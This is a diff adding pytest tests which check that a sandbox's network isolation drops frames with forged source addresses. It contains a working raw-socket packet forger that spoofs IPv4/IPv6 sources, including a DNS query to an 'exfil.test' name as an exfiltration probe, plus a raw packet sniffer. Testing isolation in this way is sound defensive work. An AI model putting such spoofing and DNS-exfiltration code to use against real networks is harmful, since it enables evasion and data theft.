@@ -6,7 +6,10 @@ link-local and metadata addresses, IPv6, DNS rebinding and resolver bypasses out
 answering with the address it was reached on, and a DNS server for *.test names."""
 
 import os
+import queue
+import secrets
 import socket
+import subprocess
 import threading
 import time
 
@@ -14,7 +17,7 @@ import pytest
 
 import cpuos
 from conftest import SLOW, started_daemon, sandbox_factory
-from internet import ADDRS, DNS_ADDR, DNS_PORT, HOST_SIDE, PORT, running
+from internet import ADDRS, DNS_ADDR, DNS_PORT, HOST_SIDE, NS, PORT, running
 from test_cpuos_cli import cpuos as cli
 
 A, B, C = ADDRS
@@ -410,3 +413,171 @@ def test_a_name_of_the_host_does_not_reach_it(make_sandbox):
             srv.accept()
     finally:
         srv.close()
+
+
+# --- forged sources -------------------------------------------------------------------------------
+
+# Watches every interface of the namespace it runs in (but lo) for the frames a forging guest
+# could get out: any carrying the marker (a DNS answer repeats the name asked, an ICMP error quotes
+# the packet) or going to the forged source (a TCP reset). It prints "ready" once listening, "end"
+# at the marker of the guest's last, genuine packet, and "seen <if> <hex>" for each find.
+SNIFF = r"""
+import socket, sys
+marker, end, to = sys.argv[1].encode(), sys.argv[2].encode(), socket.inet_aton(sys.argv[3])
+s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
+print("ready", flush=True)
+while True:
+    frame, addr = s.recvfrom(65535)
+    if addr[0] == "lo":
+        continue
+    if end in frame:
+        print("end", addr[0], flush=True)
+    elif marker in frame or (frame[12:14] == b"\x08\x00" and frame[30:34] == to):
+        print("seen", addr[0], frame[:80].hex(), flush=True)
+"""
+
+# Run as root in the guest: frames written straight onto eth0 with a source not the guest's own.
+# argv: marker, forged IPv4 sources (comma-separated), a refused IPv4 destination.
+FORGE = r"""
+import socket, struct, sys
+marker, srcs, dst = sys.argv[1].encode(), sys.argv[2].split(","), sys.argv[3]
+GW_MAC, GW = bytes.fromhex("02cb00000001"), "169.254.0.1"
+s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+s.bind(("eth0", 0))
+me = s.getsockname()[4]
+
+def csum(b):
+    b += b"\0" * (len(b) & 1)
+    t = sum(struct.unpack("!%dH" % (len(b) // 2), b))
+    while t >> 16:
+        t = (t & 0xffff) + (t >> 16)
+    return ~t & 0xffff
+
+def ip4(src, to, proto, body):
+    h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 7, 0, 64, proto, 0,
+                    socket.inet_aton(src), socket.inet_aton(to))
+    h = h[:10] + struct.pack("!H", csum(h)) + h[12:]
+    s.send(GW_MAC + me + b"\x08\x00" + h + body)
+
+def l4sum(src, to, proto, seg):
+    pseudo = socket.inet_aton(src) + socket.inet_aton(to) + struct.pack("!BBH", 0, proto, len(seg))
+    return struct.pack("!H", csum(pseudo + seg))
+
+def udp(src, to, port, data):
+    seg = struct.pack("!HHHH", 40000, port, 8 + len(data), 0) + data
+    ip4(src, to, 17, seg[:6] + l4sum(src, to, 17, seg) + seg[8:])
+
+def syn(src, to, port, data):
+    seg = struct.pack("!HHIIBBHHH", 40001, port, 1, 0, 5 << 4, 0x02, 65535, 0, 0) + data
+    ip4(src, to, 6, seg[:16] + l4sum(src, to, 6, seg) + seg[18:])
+
+def dns(name):
+    q = b"".join(bytes([len(l)]) + l for l in name.split(b".")) + b"\0"
+    return struct.pack("!HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0) + q + struct.pack("!HH", 1, 1)
+
+for _ in range(3):
+    for src in srcs:
+        udp(src, GW, 53, dns(marker + b".exfil.test"))  # the resolver's answer names it
+        udp(src, dst, 9, marker)                        # an ICMP error would quote it
+        udp(src, GW, 9, marker)                         # to the gateway: refused too
+        syn(src, dst, PORT, marker)                     # a reset, or the SYN itself
+        ip4(src, dst, 1, struct.pack("!BBHHH", 8, 0, 0, 1, 1) + marker)  # ping
+    v6 = socket.inet_pton(socket.AF_INET6, "2001:2::2") + socket.inet_pton(socket.AF_INET6, "2001:2::3")
+    body = struct.pack("!HHHH", 40000, 9, 8 + len(marker), 0) + marker
+    s.send(GW_MAC + me + b"\x86\xdd" + struct.pack("!IHBB", 6 << 28, len(body), 17, 64) + v6 + body)
+print("sent")
+"""
+
+
+def _described(line):
+    """A watcher's "seen IF HEX" as "IF: SRC > DST proto P"."""
+    _, ifname, frame = line.split()
+    b = bytes.fromhex(frame)
+    if b[12:14] == b"\x08\x00":
+        return f"{ifname}: {socket.inet_ntoa(b[26:30])} > {socket.inet_ntoa(b[30:34])} proto {b[23]}"
+    if b[12:14] == b"\x86\xdd":
+        return f"{ifname}: IPv6 {b[22:38].hex()} > {b[38:54].hex()}"
+    return f"{ifname}: ether type {b[12:14].hex()}"
+
+
+def _lines_into(f, q):
+    for line in f:
+        q.put(line)
+    q.put("")
+
+
+def forged_leaks(sbx, modes):
+    """Under each policy of modes, a root guest writes frames with sources not its own (another
+    internet address, the host's): a DNS question to the resolver, UDP to a refused address and to
+    the gateway, a TCP SYN, a ping, and IPv6. Returns what of them, or of any answer to them, left
+    the sandbox's namespace, as seen on every interface of the host and of the stand-in internet.
+    The guest's last packet, genuine and allowed, shows that the watch sees what does get out."""
+    marker, end = f"forged{secrets.token_hex(6)}", f"genuine{secrets.token_hex(6)}"
+    watchers = [subprocess.Popen(pre + ["python3", "-c", SNIFF, marker, end, B],
+                                 stdout=subprocess.PIPE, text=True)
+                for pre in ([], ["ip", "netns", "exec", NS])]
+    try:
+        queues = []
+        for w in watchers:
+            assert w.stdout.readline().strip() == "ready"
+            queues.append(queue.Queue())
+            threading.Thread(target=_lines_into, args=(w.stdout, queues[-1]), daemon=True).start()
+        sbx.files.write("/tmp/forge.py", FORGE.replace("PORT", str(PORT)))
+        for mode in modes:
+            sbx.set_network(mode)
+            r = sbx.exec(["python3", "/tmp/forge.py", marker, f"{B},{HOST_SIDE}", C],
+                         user="root", timeout="60s")
+            assert r.exit_code == 0 and "sent" in r.stdout, (r.stdout, r.stderr)
+        # Genuine and allowed, sent after the forged frames on the same link: once the watchers
+        # saw it, they would have seen those.
+        sbx.set_network("allow-all")
+        r = sbx.exec(["python3", "-c", "import socket, sys; socket.socket(socket.AF_INET, "
+                      "socket.SOCK_DGRAM).sendto(sys.argv[1].encode(), (sys.argv[2], 9))",
+                      end, C], timeout="60s")
+        assert r.exit_code == 0, r.stderr
+        seen = []
+        for lines in queues:
+            deadline = time.monotonic() + 30 * SLOW
+            while True:
+                try:
+                    line = lines.get(timeout=max(0.0, deadline - time.monotonic()))
+                except queue.Empty:
+                    pytest.fail("the genuine packet never got out")
+                assert line, "a watcher ended early"
+                if line.startswith("end"):
+                    break
+                seen.append(_described(line))
+        return seen
+    finally:
+        for w in watchers:
+            w.kill()
+            w.wait()
+
+
+# Frames the guest writes in one run of FORGE: 3 rounds of 5 per forged source, 2 sources, and one
+# IPv6.
+FORGED_FRAMES = 3 * (5 * 2 + 1)
+
+
+def test_forged_sources_go_nowhere(netd, internet, make_sandbox):
+    sbx = make_sandbox(template="python", network="deny-all")
+    before = counters(netd, sbx)["refused_packets"]
+    seen = forged_leaks(sbx, ["deny-all", "allow-all"])
+    assert not seen, "\n".join(seen)
+    # dropped at the guest's link, and counted as refused there
+    assert counters(netd, sbx)["refused_packets"] - before >= 2 * FORGED_FRAMES
+
+
+def test_a_sandbox_taken_over_is_guarded(netd, internet, make_sandbox):
+    """A sandbox whose namespace lacks the guard (made by a cpuosd before it) gets it from the
+    daemon that takes it over."""
+    before = set(os.listdir("/run/netns"))
+    sbx = make_sandbox(template="python", network="deny-all")
+    (ns,) = set(os.listdir("/run/netns")) - before
+    subprocess.run(["ip", "netns", "exec", ns, "nft", "-f", "-"], check=True, text=True,
+                   input="delete table netdev cpuos_guard\ndelete chain inet cpuos leave\n")
+    netd.restart()
+    assert not forged_leaks(sbx, ["deny-all"])
+    rules = subprocess.run(["ip", "netns", "exec", ns, "nft", "list", "ruleset"], check=True,
+                           capture_output=True, text=True).stdout
+    assert "table netdev cpuos_guard" in rules and "chain leave" in rules, rules
